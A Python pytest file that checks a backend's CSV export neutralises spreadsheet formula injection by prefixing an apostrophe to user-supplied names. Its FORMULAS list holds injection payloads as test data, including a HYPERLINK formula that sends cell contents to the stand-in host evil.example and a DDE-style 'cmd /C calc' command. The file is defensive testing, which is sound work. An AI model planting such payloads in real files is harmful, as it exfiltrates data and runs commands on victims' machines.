"""CSV exports never hand a spreadsheet a formula: text from users (device profile names, run and
study names, axis values) that starts like one is written with a leading apostrophe."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from backend.metrics.export import to_csv
from backend.runtime.execution import execute_run
from backend.runtime.lifecycle import RunStore
from tests.backend.builders import tiny_config
from tests.backend.conftest import Api

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"open")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


def test_text_that_starts_like_a_formula_gets_a_leading_apostrophe() -> None:
    rows = [
        {"name": text, "value": -2.5, "count": -3, "ok": "plain - text", "list": [-1, 2]} for text in FORMULAS
    ]
    written = list(
        csv.DictReader(io.StringIO(to_csv(rows, ["name", "value", "count", "ok", "list"]).decode()))
    )
    assert [r["name"] for r in written] == ["'" + text for text in FORMULAS]
    assert {(r["value"], r["count"], r["ok"], r["list"]) for r in written} == {
        ("-2.5", "-3", "plain - text", "[-1, 2]")
    }


@pytest.mark.deployments("embedded")
def test_a_run_s_devices_export_neutralises_profile_names(api: Api, tmp_path: Path) -> None:
    profile = {"cpu_hz": 1.5e9, "memory_bytes": 2**31, "max_power_w": 0.2, "energy_budget_j": 0.05}
    config = tiny_config(
        training={"rounds": 1},
        network={
            "num_clusters": 1,
            "devices_per_cluster": 3,
            "profiles": [{**profile, "name": name} for name in FORMULAS[:3]],
        },
    )
    created = api.client.post("/api/runs", json={"config": config}, headers=api.as_("operator"))
    assert created.status_code == 201, created.text
    run_id = created.json()["id"]
    store = RunStore(api.session_factory)  # executed here: a spawned run process costs seconds
    workspace = api.app.state.workspace
    assert execute_run(run_id, store, claimant="t", artifact_dir=tmp_path, workspace=workspace) == "succeeded"
    response = api.client.get(
        f"/api/runs/{run_id}/export", params={"format": "csv", "table": "devices"}, headers=api.as_("viewer")
    )
    profiles = [row["profile"] for row in csv.DictReader(io.StringIO(response.text))]
    assert profiles == ["'" + name for name in FORMULAS[:3]]
